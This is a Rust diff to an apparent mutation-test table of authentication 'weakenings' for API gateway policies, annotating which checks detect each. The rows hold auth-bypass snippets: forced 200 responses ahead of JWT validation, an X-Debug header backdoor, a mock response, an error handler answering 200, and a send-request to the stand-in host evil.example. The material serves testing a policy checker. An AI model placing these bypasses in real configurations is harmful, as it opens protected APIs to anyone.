@@ -193,11 +193,11 @@ pub(super) const WEAKENINGS: &[Weakening] = &[
     row("POL-01", &[(POLICY, Text("header-name=\"Authorization\"", "header-name=\"X-Token\""))]).hidden(Shut),
     row("POL-01", &[(POLICY, Text("failed-validation-httpcode=\"401\"", "failed-validation-httpcode=\"200\""))]).seen(&["A01", "A02", "A19"]),
     // Answered, or called, for whoever has no token.
-    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<return-response><set-status code="200" /></return-response><validate-jwt "#))]),
-    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<choose><when condition="@(context.Request.Headers.ContainsKey(&quot;X-Debug&quot;))"><return-response response-variable-name="r" /></when></choose><validate-jwt "#))]),
-    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<mock-response status-code="200" /><validate-jwt "#))]),
-    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request><validate-jwt "#))]),
-    row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><return-response><set-status code="200" /></return-response>"#))]),
+    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<return-response><set-status code="200" /></return-response><validate-jwt "#))]).seen(&["A01"]),
+    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<choose><when condition="@(context.Request.Headers.ContainsKey(&quot;X-Debug&quot;))"><return-response response-variable-name="r" /></when></choose><validate-jwt "#))]).hidden(Unknown),
+    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<mock-response status-code="200" /><validate-jwt "#))]).seen(&["A01"]),
+    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request><validate-jwt "#))]).hidden(Guarded),
+    row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><return-response><set-status code="200" /></return-response>"#))]).seen(&["A01"]),
     // The operation's own policy does not run its API's.
     row("POL-01", &[("apis/orders/operations/list-orders", Add("policies/policy", r#"{ "properties": { "format": "rawxml", "value": "<policies><inbound /><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>" } }"#))])
         .also(&["POL-10", "POL-11", "POL-14", "POL-16", "POL-17"]).hidden(Guarded),
